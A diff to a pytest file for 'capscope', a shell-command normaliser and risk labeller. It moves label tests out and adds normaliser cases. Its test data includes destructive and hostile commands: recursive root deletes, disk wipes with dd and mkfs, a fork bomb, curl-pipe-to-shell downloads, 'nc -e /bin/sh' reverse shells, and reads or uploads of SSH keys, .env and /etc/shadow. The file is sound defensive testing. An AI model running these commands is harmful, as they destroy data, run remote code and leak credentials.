@@ -1,9 +1,8 @@
 """
-The command normaliser and risk labeller (`capscope._shell_normalise`):
-wrappers, flag splitting, long/short forms, and the labels of issue 5.
-
-Most cases build `SimpleCommand`s by hand so they do not depend on the
-parser; `TestEndToEnd` goes through `capscope._shell_parse.parse`.
+The command normaliser (`capscope._shell_normalise`): wrappers, `find
+-exec`, flag splitting, long and short forms, git's global options,
+interpreters and shell scripts (issues 5 and 13). The labels are
+`test_shell_label.py`'s.
 """
 
 from __future__ import annotations
@@ -11,11 +10,11 @@ from __future__ import annotations
 # ruff: noqa: S108 -- /tmp paths are data here: write targets outside the workspace
 import pytest
 
-from capscope._shell import Redirect, SimpleCommand
+from capscope._shell import OpaqueWord, Redirect, SimpleCommand
+from capscope._shell_label import label
 from capscope._shell_normalise import (
     NormalCommand,
     is_fork_bomb,
-    label,
     normalise,
     normalise_all,
 )
@@ -121,7 +120,6 @@ class TestWrappers:
             (("env", "-i", "A=1", "B=2", "rm", "x"), ("env",)),
             (("env", "-u", "HOME", "rm", "x"), ("env",)),
             (("env", "--unset=HOME", "--", "rm", "x"), ("env",)),
-            (("env", "-S", "rm x"), ("env",)),
             (("command", "rm", "x"), ("command",)),
             (("command", "-p", "rm", "x"), ("command",)),
             (("exec", "rm", "x"), ("exec",)),
@@ -156,10 +154,6 @@ class TestWrappers:
             (("ionice", "-c", "3", "rm", "x"), ("ionice",)),
             (("ionice", "-c2", "-n", "7", "-t", "rm", "x"), ("ionice",)),
             (("setsid", "-f", "-w", "rm", "x"), ("setsid",)),
-            (("xargs", "rm", "x"), ("xargs",)),
-            (("xargs", "-0", "-n", "1", "-P", "4", "rm", "x"), ("xargs",)),
-            (("xargs", "-I", "{}", "rm", "x"), ("xargs",)),
-            (("xargs", "--null", "--max-args=1", "rm", "x"), ("xargs",)),
             (("busybox", "rm", "x"), ("busybox",)),
             (
                 (
@@ -216,23 +210,40 @@ class TestWrappers:
         assert [("env",)] == argvs("env")
         assert [("sudo", "-v")] == argvs("sudo", "-v")
 
+    @pytest.mark.parametrize(
+        ("argv", "reason"),
+        [
+            (("env", "-S", "rm x"), "env -S splits a string into words"),
+            (("xargs", "rm", "x"), "arguments read from input"),
+            (("xargs", "-0", "-n", "1", "-P", "4", "rm", "x"), "arguments read from input"),
+            (("xargs", "-I", "{}", "rm", "x"), "arguments read from input"),
+            (("xargs", "--null", "--max-args=1", "rm", "x"), "arguments read from input"),
+        ],
+    )
+    def test_unwrapped_but_unresolved(self, argv, reason):
+        """`env -S` and `xargs` run a command whose words are not all on
+        the line: it is unwrapped, and unresolved."""
+
+        (cmd,) = normalise(sc(*argv))
+
+        assert (("rm", "x"), (reason,)) == (cmd.argv, cmd.unresolved)
+
     def test_unknown_wrapper_option_is_unresolved(self):
         """An option the table does not know might take a value: unresolved."""
 
         (cmd,) = normalise(sc("sudo", "--frobnicate", "x", "rm", "y"))
 
-        assert "unknown wrapper option" in cmd.unresolved
+        assert "an option of sudo capscope does not know" in cmd.unresolved
 
-    def test_env_override_is_unresolved(self):
-        """LD_PRELOAD, PATH and friends make the program run other code."""
+    def test_wrapper_assignments_are_kept(self):
+        """`env A=1` and `sudo A=1` give the command its environment (the
+        labeller judges it)."""
 
-        (a,) = normalise(sc("ls", assignments=[("LD_PRELOAD", "/x.so")]))
-        (b,) = normalise(sc("env", "PATH=/tmp", "ls"))
-        (c,) = normalise(sc("ls", assignments=[("FOO", "1")]))
+        (a,) = normalise(sc("env", "PATH=/tmp", "ls"))
+        (b,) = normalise(sc("ls", assignments=[("LD_PRELOAD", "/x.so")]))
 
-        assert ("environment override",) == a.unresolved
-        assert ("environment override",) == b.unresolved
-        assert () == c.unresolved
+        assert (("PATH", "/tmp"),) == a.assignments
+        assert (("LD_PRELOAD", "/x.so"),) == b.assignments
 
     def test_env_chdir(self):
         """`env -C DIR` records the directory the command runs in."""
@@ -240,9 +251,6 @@ class TestWrappers:
         (cmd,) = normalise(sc("env", "-C", "/", "rm", "-rf", "."))
 
         assert "/" == cmd.cwd
-        assert {L.CATASTROPHIC} == labels_of(
-            sc("env", "-C", "/", "rm", "-rf", ".")
-        )
 
     def test_xargs_without_command_runs_echo(self):
         """`xargs` alone runs echo."""
@@ -270,32 +278,15 @@ class TestFind:
         )[1].wrappers
 
     def test_filtered_placeholder_is_under_start(self):
-        """With a filter, `{}` is something under the start path."""
+        """With a filter, `{}` is something under the start path; the
+        command runs once per file found, so it is unresolved."""
 
-        assert {L.DESTRUCTIVE, L.WRITE_INTENT, L.OUTSIDE_WORKSPACE} == (
-            labels_of(
-                sc("find", "/", "-name", "x", "-exec", "rm", "-rf", "{}", ";")
-            )
-        )
-        assert set() == labels_of(
-            sc(
-                "find",
-                ".",
-                "-name",
-                "__pycache__",
-                "-exec",
-                "rm",
-                "-rf",
-                "{}",
-                "+",
-            )
+        (_, cmd) = normalise(
+            sc("find", "/", "-name", "x", "-exec", "rm", "-rf", "{}", ";")
         )
 
-    def test_delete(self):
-        """find -delete deletes what it visits."""
-
-        assert L.CATASTROPHIC in labels_of(sc("find", "/", "-delete"))
-        assert set() == labels_of(sc("find", ".", "-name", "*.pyc", "-delete"))
+        assert ("rm", "-r", "-f", "/{}") == cmd.argv
+        assert "runs on each file find finds" in cmd.unresolved
 
     def test_nested_wrapper_in_exec(self):
         """The executed command is normalised in turn."""
@@ -419,13 +410,23 @@ class TestGit:
             ("git", "--exec-path=/tmp", "log"),
         ],
     )
-    def test_code_options_unresolved(self, argv):
-        """-c, --config-env and --exec-path make git run unknown code."""
+    def test_code_options_run_code(self, argv):
+        """-c, --config-env and --exec-path make git run code the line
+        does not show."""
 
         (cmd,) = normalise(sc(*argv))
 
         assert ("git", "log") == cmd.argv
-        assert ("git config override",) == cmd.unresolved
+        assert () == cmd.unresolved
+        assert 1 == len(cmd.code)
+        assert "sets configuration that can run programs" in cmd.code[0]
+
+    def test_an_unknown_global_option_is_unresolved(self):
+        """A global option the table does not know may take a value."""
+
+        (cmd,) = normalise(sc("git", "--frob", "x", "log"))
+
+        assert ("an option of git capscope does not know",) == cmd.unresolved
 
 
 class TestInterpreters:
@@ -441,15 +442,18 @@ class TestInterpreters:
             ("node", "-e", "x"),
             ("node", "--eval=x"),
             ("php", "-r", "x"),
-            ("awk", 'BEGIN{system("x")}'),
         ],
     )
     def test_inline_code(self, argv):
-        """Inline code is unresolved as "interpreter code"."""
+        """Inline code is code the line does not show (not unresolved:
+        what runs is known, it is the interpreter)."""
 
         (cmd,) = normalise(sc(*argv))
 
-        assert ("interpreter code",) == cmd.unresolved
+        assert ((), ("runs code given on the line",)) == (
+            cmd.unresolved,
+            cmd.code,
+        )
 
     @pytest.mark.parametrize(
         "argv",
@@ -471,7 +475,7 @@ class TestInterpreters:
 
     @pytest.mark.parametrize(
         "receiver",
-        ["sh", "bash", "zsh", "python", "python3", "perl", "node", "ruby"],
+        ["sh", "bash", "python", "python3", "perl", "node", "ruby"],
     )
     def test_pipe_into_interpreter(self, receiver):
         """An interpreter with no script reading a pipe is unresolved."""
@@ -508,7 +512,30 @@ class TestInterpreters:
 
         (cmd,) = normalise(sc("xargs", "bash", "-c"))
 
-        assert ("shell script not visible",) == cmd.unresolved
+        assert "shell script not visible" in cmd.unresolved
+
+    @pytest.mark.parametrize("shell", ["zsh", "fish", "ksh", "csh"])
+    def test_shells_capscope_does_not_model(self, shell):
+        """Another shell's script is read (for the floor) but unresolved:
+        zsh's glob qualifiers, fish's syntax are not bash's."""
+
+        cmds = normalise(sc(shell, "-c", "ls"))
+
+        assert (
+            f"a script for {shell}, which capscope does not model"
+            in cmds[0].unresolved
+        )
+
+    @pytest.mark.parametrize(
+        "options", [["-i"], ["-O", "extglob"], ["--rcfile", "x"], ["-k"]]
+    )
+    def test_shell_options_that_change_reading(self, options):
+        """`bash -i` expands aliases, `-O extglob` reads globs anew: such
+        an option makes the script unresolved."""
+
+        (cmd,) = normalise(sc("bash", *options, "-c", "ls"))
+
+        assert any("shell option" in r for r in cmd.unresolved)
 
 
 class TestShellC:
@@ -611,414 +638,3 @@ class TestForkBomb:
         ]
 
         assert L.CATASTROPHIC in labels_of(cmds)
-
-
-# --- labels -----------------------------------------------------------------
-
-C, D, W, OUT = (
-    L.CATASTROPHIC,
-    L.DESTRUCTIVE,
-    L.WRITE_INTENT,
-    L.OUTSIDE_WORKSPACE,
-)
-CRED, EXFIL, U = (
-    L.CREDENTIAL_FILE_READ,
-    L.NETWORK_EXFIL,
-    L.EXECUTION_SEMANTICS_UNRESOLVED,
-)
-CPS, FP = L.CURL_PIPE_SHELL, L.GIT_FORCE_PUSH
-
-#: (commands, expected labels) with cwd=/ws, roots=[/ws], home=/home/u.
-LABEL_CASES = [
-    # catastrophic: recursive delete
-    ([sc("rm", "-rf", "/")], {C}),
-    ([sc("rm", "-fr", "/")], {C}),
-    ([sc("rm", "-r", "-f", "/")], {C}),
-    ([sc("rm", "-R", "/")], {C}),
-    ([sc("rm", "--recursive", "--force", "/")], {C}),
-    ([sc("rm", "-rf", "--no-preserve-root", "/")], {C}),
-    ([sc("/bin/rm", "-rf", "/*")], {C}),
-    ([sc("rm", "-rf", "//")], {C}),
-    ([sc("rm", "-rf", "/usr")], {C}),
-    ([sc("rm", "-rf", "/u*")], {C}),
-    ([sc("sudo", "rm", "-rf", "~")], {C, L.SUDO}),
-    ([sc("rm", "-rf", "~/")], {C}),
-    ([sc("rm", "-rf", "~/*")], {C}),
-    ([sc("doas", "rm", "-rf", "/home")], {C, L.SUDO}),
-    ([sc("env", "FOO=1", "rm", "-rf", "$HOME")], {C}),
-    ([sc("rm", "-rf", "${HOME}")], {C}),
-    ([sc("nice", "-n", "5", "timeout", "10", "rm", "-rf", "/")], {C}),
-    ([sc("rm", "-rf", ".")], {C}),
-    ([sc("rm", "-rf", "..")], {C}),
-    ([sc("rm", "-rf", "*")], {C}),
-    ([sc("rm", "-rf", "/ws")], {C}),
-    ([sc("rm", "-rf", "/ws/../ws/")], {C}),
-    ([sc("cd", "/"), sc("rm", "-rf", "*")], {C}),
-    ([sc("find", "/", "-exec", "rm", "-rf", "{}", ";")], {C}),
-    ([sc("bash", "-c", "rm -rf ~")], {C}),
-    # catastrophic: devices, file systems, chmod
-    ([sc("dd", "if=/dev/zero", "of=/dev/sda")], {C, W, OUT}),
-    ([sc("dd", "if=x", "of=/dev/nvme0n1", "bs=1M")], {C, W, OUT}),
-    ([sc("mkfs.ext4", "/dev/sda1")], {C}),
-    ([sc("mkfs", "-t", "ext4", "/dev/sdb")], {C}),
-    ([sc("echo", "x", redirects=[w("/dev/sda")])], {C, W, OUT}),
-    ([sc("shred", "-n", "3", "/dev/sda")], {C, W, OUT}),
-    ([sc("wipefs", "-a", "/dev/sdb")], {C}),
-    ([sc("chmod", "-R", "777", "/")], {C}),
-    ([sc("chmod", "--recursive", "777", "/")], {C}),
-    ([sc("chmod", "-R", "u+w", ".")], set()),
-    ([sc("chmod", "-R", "755", "/tmp/x")], {W, OUT}),
-    ([sc("chown", "-R", "nobody", "~")], {C}),
-    ([sc("echo", "x", redirects=[w("/etc/passwd")])], {C, D, W, OUT}),
-    ([sc("tee", "/etc/sudoers")], {C, D, W, OUT}),
-    # catastrophic: downloads into interpreters
-    ([sc("curl", "http://x", piped=True), sc("sh")], {C, CPS, U}),
-    ([sc("wget", "-qO-", "x", piped=True), sc("bash")], {C, CPS, U}),
-    ([sc("curl", "x", piped=True), sc("sudo", "bash")], {C, CPS, U, L.SUDO}),
-    (
-        [
-            sc("curl", "x", piped=True),
-            sc("tee", "f", piped=True),
-            sc("python3"),
-        ],
-        {C, CPS, U},
-    ),
-    ([sc("curl", "-o", "i.sh", "x"), sc("bash", "i.sh")], {C, CPS}),
-    # catastrophic: git force push
-    ([sc("git", "push", "--force", "origin", "main")], {C, FP}),
-    ([sc("git", "push", "-f", "origin", "master")], {C, FP}),
-    ([sc("git", "push", "origin", "+main")], {C, FP}),
-    (
-        [sc("git", "push", "--force-with-lease", "origin", "release/1.2")],
-        {C, FP},
-    ),
-    ([sc("git", "push", "origin", "+HEAD:refs/heads/production")], {C, FP}),
-    ([sc("git", "push", "--mirror", "origin")], {C, FP}),
-    ([sc("git", "push", "-f", "origin", "feature")], {FP}),
-    ([sc("git", "push", "-f")], {FP}),
-    ([sc("git", "push", "origin", "main")], set()),
-    # destructive
-    ([sc("rm", "-rf", "/tmp/x")], {D, W, OUT}),
-    ([sc("rm", "-rf", "$DIR")], {D, W, OUT}),
-    ([sc("xargs", "rm", "-rf")], {D, W, OUT}),
-    ([sc("xargs", "-I", "{}", "sh", "-c", "rm -rf {}")], {D, W, OUT}),
-    ([sc("xargs", "-I{}", "rm", "-rf", "{}")], {D, W, OUT}),
-    ([sc("echo", "x", redirects=[w("/etc/hosts")])], {D, W, OUT}),
-    ([sc("echo", "x", redirects=[w("~/.bashrc", ">>")])], {D, W, OUT}),
-    ([sc("echo", "x", redirects=[w("/home/u/.zshrc", ">>")])], {D, W, OUT}),
-    ([sc("cp", "x", "/etc/profile.d/x.sh")], {D, W, OUT}),
-    ([sc("sed", "-i", "s/a/b/", "/etc/hosts")], {D, W, OUT}),
-    ([sc("tee", "-a", "/home/u/.ssh/authorized_keys")], {D, W, OUT}),
-    # credential reads
-    ([sc("cat", "~/.ssh/id_rsa")], {CRED}),
-    ([sc("base64", ".env")], {CRED}),
-    ([sc("less", "/ws/.env.local")], {CRED}),
-    ([sc("head", "-n", "1", "/home/u/.aws/credentials")], {CRED}),
-    ([sc("grep", "-r", "key", "/home/u/.gnupg")], {CRED}),
-    ([sc("tail", "/etc/shadow")], {CRED}),
-    ([sc("cat", "/etc/sudoers")], {CRED}),
-    ([sc("xxd", "server.PEM")], {CRED}),
-    ([sc("cat", ".npmrc")], {CRED}),
-    ([sc("cat", ".pypirc")], {CRED}),
-    ([sc("strings", "/home/u/.netrc")], {CRED}),
-    ([sc("tar", "czf", "k.tgz", "/home/u/.ssh")], {CRED}),
-    ([sc("cp", "~/.aws/credentials", "/tmp/x")], {CRED, W, OUT}),
-    ([sc("cp", "key.pub", "/home/u/.ssh/authorized_keys")], {D, W, OUT}),
-    ([sc("wc", redirects=[Redirect("<", "~/.ssh/id_rsa", 0)])], {CRED}),
-    ([sc("grep", "id_rsa", "notes.txt")], set()),
-    # network exfiltration
-    ([sc("curl", "-d", "@.env", "http://x")], {EXFIL, CRED}),
-    ([sc("curl", "--data-binary", "@out.log", "http://x")], {EXFIL}),
-    ([sc("curl", "-T", "f", "ftp://x")], {EXFIL}),
-    ([sc("curl", "-F", "file=@f", "http://x")], {EXFIL}),
-    ([sc("wget", "--post-file=f", "http://x")], {EXFIL}),
-    ([sc("nc", "h", "1", redirects=[Redirect("<", "f", 0)])], {EXFIL}),
-    ([sc("cat", "f", piped=True), sc("nc", "h", "1")], {EXFIL}),
-    ([sc("scp", "f", "host:/tmp/")], {EXFIL}),
-    ([sc("rsync", "-a", ".", "user@host:backup/")], {EXFIL}),
-    ([sc("scp", "host:f", ".")], set()),
-    ([sc("nc", "-e", "/bin/sh", "h", "1")], {EXFIL, U}),
-    # sudo, packages, kill
-    ([sc("sudo", "ls")], {L.SUDO}),
-    ([sc("pip", "install", "requests")], {L.PACKAGE_INSTALL}),
-    ([sc("pip3", "install", "-U", "x")], {L.PACKAGE_INSTALL}),
-    ([sc("npm", "install")], {L.PACKAGE_INSTALL}),
-    ([sc("npm", "i", "x")], {L.PACKAGE_INSTALL}),
-    ([sc("yarn", "add", "x")], {L.PACKAGE_INSTALL}),
-    ([sc("pnpm", "add", "x")], {L.PACKAGE_INSTALL}),
-    ([sc("gem", "install", "x")], {L.PACKAGE_INSTALL}),
-    ([sc("cargo", "install", "x")], {L.PACKAGE_INSTALL}),
-    (
-        [sc("sudo", "apt-get", "install", "-y", "x")],
-        {L.PACKAGE_INSTALL, L.SUDO},
-    ),
-    ([sc("apt", "install", "x")], {L.PACKAGE_INSTALL}),
-    ([sc("yum", "install", "x")], {L.PACKAGE_INSTALL}),
-    ([sc("dnf", "install", "x")], {L.PACKAGE_INSTALL}),
-    ([sc("brew", "install", "x")], {L.PACKAGE_INSTALL}),
-    ([sc("apk", "add", "x")], {L.PACKAGE_INSTALL}),
-    ([sc("python", "-m", "pip", "install", "x")], {L.PACKAGE_INSTALL}),
-    ([sc("pip", "list")], set()),
-    ([sc("npm", "test")], set()),
-    ([sc("kill", "-9", "1")], {L.PROCESS_KILL}),
-    ([sc("pkill", "-f", "x")], {L.PROCESS_KILL}),
-    ([sc("killall", "x")], {L.PROCESS_KILL}),
-    # writes
-    ([sc("echo", "x", redirects=[w("/tmp/out")])], {W, OUT}),
-    ([sc("echo", "x", redirects=[w("out.txt")])], set()),
-    ([sc("echo", "x", redirects=[w("/dev/null")])], set()),
-    ([sc("echo", "x", redirects=[Redirect(">", "/dev/null", 2)])], set()),
-    ([sc("echo", "x", redirects=[Redirect(">&", "2", 1)])], set()),
-    ([sc("echo", "x", redirects=[w("/dev/stderr")])], set()),
-    ([sc("echo", "x", redirects=[w("/dev/fd/3")])], set()),
-    ([sc("echo", "x", redirects=[w(None)])], {W, OUT}),  # type: ignore[arg-type]
-    (
-        [sc("echo", "x", redirects=[Redirect("&>", "/tmp/log", None)])],
-        {W, OUT},
-    ),
-    ([sc("echo", "x", redirects=[w("/tmp/o", ">|")])], {W, OUT}),
-    ([sc("tee", "/tmp/x")], {W, OUT}),
-    ([sc("tee", "out")], set()),
-    ([sc("cp", "a", "/tmp/b")], {W, OUT}),
-    ([sc("cp", "-t", "/tmp", "a")], {W, OUT}),
-    ([sc("cp", "/tmp/a", "b")], set()),
-    ([sc("mv", "/tmp/a", "b")], {W, OUT}),
-    ([sc("touch", "/tmp/x")], {W, OUT}),
-    ([sc("mkdir", "-p", "/opt/x")], {W, OUT}),
-    ([sc("rmdir", "/tmp/x")], {W, OUT}),
-    ([sc("ln", "-s", "a", "/tmp/b")], {W, OUT}),
-    ([sc("chmod", "644", "/tmp/x")], {W, OUT}),
-    ([sc("chown", "u", "/tmp/x")], {W, OUT}),
-    ([sc("rm", "/tmp/x")], {W, OUT}),
-    ([sc("rm", "-f", "x")], set()),
-    ([sc("rm", "-rf", "build")], set()),
-    ([sc("sed", "-i", "s/a/b/", "/tmp/f")], {W, OUT}),
-    ([sc("sed", "s/a/b/", "/tmp/f")], set()),
-    ([sc("curl", "-o", "/tmp/f", "http://x")], {W, OUT}),
-    ([sc("curl", "-o", "f", "http://x")], set()),
-    ([sc("wget", "-O", "/tmp/f", "http://x")], {W, OUT}),
-    ([sc("tar", "-xzf", "a.tgz", "-C", "/opt")], {W, OUT}),
-    ([sc("tar", "xf", "a.tar")], set()),
-    ([sc("install", "-m", "755", "a", "/usr/local/bin/a")], {W, OUT}),
-    ([sc("truncate", "-s", "0", "/tmp/f")], {W, OUT}),
-    ([sc("git", "-C", "/tmp/x", "status")], {OUT}),
-    # unresolved
-    ([sc("python", "-c", "print(1)")], {U}),
-    ([sc("perl", "-e", "1")], {U}),
-    ([sc("git", "-c", "core.pager=sh", "log")], {U}),
-    ([sc("ls", piped=True), sc("python")], {U}),
-    (
-        [
-            SimpleCommand(
-                ("$X", "a"), unresolved=("variable in program position",)
-            )
-        ],
-        {U},
-    ),
-    ([sc("source", "env.sh")], {U}),
-    # nothing
-    ([sc("ls", "-la")], set()),
-    ([sc("cat", "README.md")], set()),
-    ([sc("git", "status")], set()),
-    ([sc("git", "log", "--oneline")], set()),
-    ([sc("pytest", "-q")], set()),
-    ([sc("echo", "a; rm -rf /")], set()),
-    ([sc("grep", "-rn", "TODO", ".")], set()),
-    ([sc("command", "-v", "rm")], set()),
-]
-
-
-class TestLabels:
-    @pytest.mark.parametrize(
-        ("commands", "expected"),
-        LABEL_CASES,
-        ids=[
-            " ; ".join(" ".join(c.argv) for c in cmds)
-            for cmds, _ in LABEL_CASES
-        ],
-    )
-    def test_table(self, commands, expected):
-        """Each command gets exactly the expected labels."""
-
-        assert expected == labels_of(commands)
-
-    def test_reasons_name_the_command(self):
-        """Every reason starts with the normalised command."""
-
-        found = label(
-            normalise(sc("sudo", "rm", "-rf", "/")),
-            cwd=CWD,
-            workspace_roots=ROOTS,
-            home=HOME,
-        )
-
-        assert [
-            "(privileged) rm -r -f /: recursive delete of the root directory"
-        ] == found[L.CATASTROPHIC]
-        assert all(
-            r.startswith("(privileged) rm -r -f /") for r in found[L.SUDO]
-        )
-
-    def test_pipe_found_without_normalise_all(self):
-        """Commands normalised one by one still see `curl | sh`."""
-
-        sources = [sc("curl", "x", piped=True), sc("sh")]
-        normal = [n for s in sources for n in normalise(s)]
-
-        found = label(normal, cwd=CWD, workspace_roots=ROOTS, home=HOME)
-
-        assert {C, CPS, U} == set(found)
-
-    def test_line_unresolved(self):
-        """The parser's reasons for the whole line are labelled too."""
-
-        found = label(
-            normalise(sc("ls")),
-            cwd=CWD,
-            workspace_roots=ROOTS,
-            home=HOME,
-            line_unresolved=["unbalanced quote"],
-        )
-
-        assert {
-            L.EXECUTION_SEMANTICS_UNRESOLVED: ["the line: unbalanced quote"]
-        } == found
-
-    def test_no_roots_every_write_is_outside(self):
-        """With no workspace roots every write target is outside."""
-
-        assert {W, OUT} == labels_of(
-            sc("echo", "x", redirects=[w("out.txt")]), roots=None
-        )
-        assert set() == labels_of(sc("ls"), roots=None)
-
-    def test_no_roots_cwd_is_protected(self):
-        """With no roots, deleting the working directory is the floor."""
-
-        assert C in labels_of(sc("rm", "-rf", "."), roots=None)
-
-    def test_no_cwd_relative_is_unknown(self):
-        """Without a cwd a relative write target cannot be shown inside."""
-
-        assert {W, OUT} == labels_of(sc("touch", "x"), cwd=None)
-        assert {D, W, OUT} == labels_of(sc("rm", "-rf", "build"), cwd=None)
-
-    def test_parent_of_root(self):
-        """A parent of a workspace root is protected."""
-
-        assert {C} == labels_of(
-            sc("rm", "-rf", ".."), cwd="/srv/ws", roots=["/srv/ws"]
-        )
-
-    def test_nested_root(self):
-        """Every root of several counts."""
-
-        assert {C} == labels_of(sc("rm", "-rf", "/b"), roots=["/ws", "/b"])
-        assert set() == labels_of(sc("touch", "/b/x"), roots=["/ws", "/b"])
-
-    def test_cd_dash_forgets_cwd(self):
-        """After `cd -` the working directory is unknown."""
-
-        assert {D, W, OUT} == labels_of([sc("cd", "-"), sc("rm", "-rf", "x")])
-
-    def test_privileged_never_weaker(self):
-        """sudo only adds labels."""
-
-        for argv in (("rm", "-rf", "/"), ("cat", ".env"), ("ls",)):
-            plain = labels_of(sc(*argv))
-            assert plain | {L.SUDO} == labels_of(sc("sudo", *argv))
-
-
-class TestEndToEnd:
-    """Through the parser (`capscope._shell_parse.parse`)."""
-
-    @staticmethod
-    def labels(text: str) -> set[CommandLabel]:
-        from capscope._shell_parse import parse
-
-        parsed = parse(text)
-        normal = normalise_all(parsed.commands)
-        return set(
-            label(
-                normal,
-                cwd=CWD,
-                workspace_roots=ROOTS,
-                home=HOME,
-                line_unresolved=parsed.unresolved,
-            )
-        )
-
-    @pytest.mark.parametrize(
-        "text",
-        [
-            "rm -rf /",
-            "ls; rm -rf /",
-            "true && /bin/rm -fr /",
-            "FOO=1 rm -rf ~",
-            "sudo -u root env A=1 nice -n 5 rm --recursive --force /",
-            "bash -lc 'rm -rf /'",
-            "sh -c \"bash -c 'rm -rf ~/'\"",
-            "find / -exec rm -rf {} \\;",
-            "curl -fsSL http://x | sh",
-            "wget -qO- http://x | sudo bash",
-            "dd if=/dev/zero of=/dev/sda bs=1M",
-            "echo x > /dev/sda",
-            ":(){ :|:& };:",
-            "git push --force origin main",
-            "cd / && rm -rf *",
-            "bash <<EOF\nrm -rf /\nEOF",
-            "bash <<< 'rm -rf /'",
-            "chmod -R 777 /",
-            "rm -rf -- /",
-            'rm -rf "$HOME"',
-            "rm -rf $HOME/*",
-            "rm -rf ~root",
-            "command rm -rf /",
-            "exec rm -rf /",
-            "time -p rm -rf /",
-            "env -S 'rm -rf /'",
-            '/usr/bin/env bash -c "rm -rf /"',
-            "nohup rm -rf / &",
-            "git push origin HEAD:main -f",
-            "rm -rf /tmp/../",
-            "sh <(curl x)",
-            'watch -n1 "rm -rf /"',
-            "curl -o i.sh http://x && sh ./i.sh",
-        ],
-    )
-    def test_catastrophic(self, text):
-        """Catastrophic spellings through the parser."""
-
-        assert L.CATASTROPHIC in self.labels(text)
-
-    @pytest.mark.parametrize(
-        "text",
-        [
-            "echo 'a; rm -rf /'",
-            "git log --format='%H; x'",
-            "ls '$(x)'",
-            "ls -la | grep x",
-            "pytest -q 2>/dev/null",
-            "cat README.md",
-        ],
-    )
-    def test_benign(self, text):
-        """Quoted metacharacters and plain commands get no label."""
-
-        assert set() == self.labels(text)
-
-    def test_substituted_download_into_shell(self):
-        """`bash -c "$(curl x)"` runs downloaded code."""
-
-        found = self.labels('bash -c "$(curl -fsSL http://x)"')
-
-        assert {L.CATASTROPHIC, L.CURL_PIPE_SHELL} <= found
-
-    def test_returns_normal_commands(self):
-        """normalise_all returns NormalCommand instances."""
-
-        from capscope._shell_parse import parse
-
-        result = normalise_all(parse("a | b").commands)
-
-        assert all(isinstance(c, NormalCommand) for c in result)
